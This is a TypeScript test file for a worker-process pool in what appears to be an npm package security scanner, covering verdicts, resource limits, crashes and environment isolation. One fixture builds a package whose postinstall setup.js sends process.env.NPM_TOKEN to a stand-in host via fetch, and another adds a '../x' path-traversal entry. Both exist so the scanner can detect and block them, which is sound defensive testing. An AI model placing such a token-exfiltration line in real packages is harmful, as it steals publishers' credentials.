import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { defaultLimits } from "../../src/scanner/limits.ts";
import { ScannerPool, type ScannerPoolOptions } from "../../src/scanner/pool.ts";
import type { ScanAnswer } from "../../src/scanner/process/job.ts";
import { manifestEntry, rawEntry, rawTarball } from "../support/raw-tar.ts";
import { subject } from "./scan-bytes.ts";

const oddWorker = fileURLToPath(new URL("./odd-worker.ts", import.meta.url));
const realWorker = fileURLToPath(new URL("../../src/scanner/worker.ts", import.meta.url));
let folder = "";

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "pool-"));
  await writeFile(join(folder, "good.tgz"), rawTarball(manifestEntry()));
  const escaping = rawTarball(manifestEntry(), rawEntry({ name: "../x" }));
  await writeFile(join(folder, "bad.tgz"), escaping);
});

afterAll(async () => {
  await rm(folder, { recursive: true });
});

function pool(options: Partial<ScannerPoolOptions> = {}): ScannerPool {
  return new ScannerPool({ limits: defaultLimits, ...options });
}

function oddPool(options: Partial<ScannerPoolOptions> = {}): ScannerPool {
  return pool({ workerPath: oddWorker, ...options });
}

async function pidOf(scanner: ScannerPool, path = "tell"): Promise<number> {
  const { report } = await scanner.scan(path, subject);
  return Number(report.manifest?.name);
}

function isRunning(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

describe("ScannerPool", () => {
  test("scans files with the real rules", async () => {
    await using scanner = pool();
    scanner.warm();
    const good = await scanner.scan(join(folder, "good.tgz"), subject);
    const bad = await scanner.scan(join(folder, "bad.tgz"), subject);

    expect(good.report).toMatchObject({ verdict: "clean", manifest: { name: "demo" } });
    expect(good.ms).toBeGreaterThan(0);
    expect(bad.report.findings.map(({ ruleId }) => ruleId)).toContain("TAR-01");
  });

  test("compares with the version before, and tells what to keep for the next", async () => {
    await using scanner = pool();
    const { evidence } = await scanner.scan(join(folder, "good.tgz"), subject);

    const path = join(folder, "next.tgz");
    const scripts = { postinstall: "node setup.js" };
    await writeFile(path, rawTarball(manifestEntry({ version: "1.0.1", scripts })));
    const alone = await scanner.scan(path, subject);
    const next = await scanner.scan(path, subject, defaultLimits, evidence);
    const ids = ({ report }: typeof next) => report.findings.map(({ ruleId }) => ruleId);

    expect(ids(alone)).not.toContain("DIF-01");
    expect(ids(next)).toContain("DIF-01");
  });

  test("judges what it saw before without the bytes, to the same report", async () => {
    await using scanner = pool();
    const before = await scanner.scan(join(folder, "good.tgz"), subject);
    const path = join(folder, "again.tgz");
    const scripts = { postinstall: "node setup.js" };
    const theft = "fetch('https://a.test/' + process.env.NPM_TOKEN);";
    const setup = rawEntry({ name: "package/setup.js" }, theft);
    await writeFile(path, rawTarball(manifestEntry({ version: "1.0.1", scripts }), setup));
    const seen = await scanner.scan(path, subject, defaultLimits, before.evidence);
    expect(seen.report.verdict).toBe("block");
    expect(seen.evidence).not.toBeNull();

    const again = await scanner.rejudge(seen.evidence as Uint8Array, subject, before.evidence);
    expect(again).toEqual(seen.report);
    expect(await scanner.rejudge(Buffer.from("nothing"), subject, null)).toBeNull();
  });

  test("passes the limits of a scan on", async () => {
    await using scanner = pool();
    const limits = { ...defaultLimits, unpackedBytes: 100 };
    const { report } = await scanner.scan(join(folder, "good.tgz"), subject, limits);

    expect(report).toMatchObject({ verdict: "block", limitsHit: ["unpacked"] });
  });

  test.each([
    { path: "hang", limits: { timeMs: 150 }, ruleId: "LIM-01", hit: "time" },
    { path: "hungry", limits: { memoryBytes: 150 * 1024 * 1024 }, ruleId: "LIM-02", hit: "memory" },
    { path: "exit", limits: {}, ruleId: "LIM-03", hit: "crash" },
    { path: "die", limits: {}, ruleId: "LIM-03", hit: "crash" },
    { path: "garbage", limits: {}, ruleId: "LIM-03", hit: "crash" },
    { path: "other", limits: {}, ruleId: "LIM-03", hit: "crash" },
    { path: "shapeless", limits: {}, ruleId: "LIM-03", hit: "crash" },
    { path: "endless", limits: {}, ruleId: "LIM-03", hit: "crash" },
  ])(
    "blocks after '$path' and goes on with another process",
    async ({ path, limits, ruleId, hit }) => {
      await using scanner = oddPool();
      const before = await pidOf(scanner);
      const { report } = await scanner.scan(path, subject, { ...defaultLimits, ...limits });
      const after = await pidOf(scanner);

      expect(report).toMatchObject({ verdict: "block", limitsHit: [hit], findings: [{ ruleId }] });
      expect(isRunning(before)).toBe(false);
      expect(after).not.toBe(before);
    },
  );

  test("blocks what is not there", async () => {
    await using scanner = pool();
    const { report } = await scanner.scan(join(folder, "missing.tgz"), subject);

    expect(report).toMatchObject({ verdict: "block", limitsHit: ["crash"] });
  });

  test("blocks when the scanning program cannot be started", async () => {
    await using scanner = pool({ workerPath: join(folder, "missing", "worker.ts") });
    const { report } = await scanner.scan(join(folder, "good.tgz"), subject);

    expect(report).toMatchObject({ verdict: "block", limitsHit: ["crash"] });
  });

  test("carries a manifest that is larger than a pipe holds", async () => {
    await using scanner = pool();
    const manifest = { readme: "x".repeat(5_000_000) };
    const { report } = await scanner.scan(join(folder, "good.tgz"), { ...subject, manifest });

    expect(report.verdict).toBe("clean");
  });

  test("answers many scans with few processes", async () => {
    await using scanner = oddPool({ size: 2 });
    const pids = await Promise.all(Array.from({ length: 20 }, () => pidOf(scanner)));

    expect(new Set(pids).size).toBe(2);
  });

  test("one stuck scan does not hold up the others", async () => {
    await using scanner = oddPool({ size: 2 });
    const stuck = expect(scanner.scan("hang", subject)).rejects.toMatchObject({
      code: "unavailable",
    });
    const others = await Promise.all(Array.from({ length: 5 }, () => pidOf(scanner)));

    expect(new Set(others).size).toBe(1);
    await scanner[Symbol.asyncDispose]();
    await stuck;
  });

  test("gives its processes nothing of its environment", async () => {
    vi.stubEnv("REGISTRY_SECRET", "x");
    await using scanner = oddPool();
    const { report } = await scanner.scan("tell", subject);
    vi.unstubAllEnvs();

    // Only how the runtime is to compile, which we set ourselves.
    expect(JSON.parse(report.manifest?.version ?? "").sort()).toEqual([
      "BUN_JSC_forceRAMSize",
      "BUN_JSC_useFTLJIT",
    ]);
  });

  test("ends a process that has nothing to do", async () => {
    await using scanner = oddPool({ idleMs: 1 });
    const pid = await pidOf(scanner);

    await vi.waitFor(() => expect(isRunning(pid)).toBe(false), { interval: 5 });
    expect(await pidOf(scanner)).not.toBe(pid);
  });

  test.each([
    { path: "tidy", isKept: true },
    { path: "hoard", isKept: false },
  ])(
    "a process that holds much and is told to $path is kept: $isKept",
    async ({ path, isKept }) => {
      await using scanner = oddPool({ size: 1 });
      const limits = { ...defaultLimits, memoryBytes: 720 * 1024 * 1024 };
      const { report } = await scanner.scan(path, subject, limits);

      const isSame = (await pidOf(scanner)) === Number(report.manifest?.name);
      expect(isSame).toBe(isKept);
    },
  );

  test("does not give work to a process that died meanwhile", async () => {
    await using scanner = oddPool();
    const pid = await pidOf(scanner);
    process.kill(pid, "SIGKILL");
    await vi.waitFor(() => expect(isRunning(pid)).toBe(false), { interval: 5 });

    expect(await pidOf(scanner)).not.toBe(pid);
  });

  test("leaves no process behind and takes no more work once disposed", async () => {
    const scanner = oddPool({ size: 1 });
    const pid = await pidOf(scanner);
    const outcomes = Promise.allSettled(["hang", "tell"].map((job) => scanner.scan(job, subject)));
    await scanner[Symbol.asyncDispose]();

    expect(isRunning(pid)).toBe(false);
    expect(await outcomes).toMatchObject([
      { status: "rejected", reason: { code: "unavailable" } },
      { status: "rejected", reason: { code: "unavailable" } },
    ]);
    await expect(scanner.scan("tell", subject)).rejects.toMatchObject({ code: "unavailable" });
  });
});

describe("the scanning process", () => {
  test("ignores an interrupt of its group and ends with its input", async () => {
    const child = Bun.spawn([process.execPath, realWorker], { stdin: "pipe", stdout: "pipe" });
    const output = child.stdout.getReader();
    const ask = async (id: number): Promise<ScanAnswer> => {
      const path = join(folder, "good.tgz");
      const job = { id, form: "tarball", path, subject, limits: defaultLimits, previous: null };
      child.stdin.write(`${JSON.stringify(job)}\n`);
      await child.stdin.flush();
      const { value } = await output.read();
      return JSON.parse(new TextDecoder().decode(value)) as ScanAnswer;
    };

    expect(await ask(1)).toMatchObject({ id: 1, report: { verdict: "clean" } });
    child.kill("SIGINT");
    expect(await ask(2)).toMatchObject({ id: 2, report: { verdict: "clean" } });
    await child.stdin.end();
    expect(await child.exited).toBe(0);
  });
});
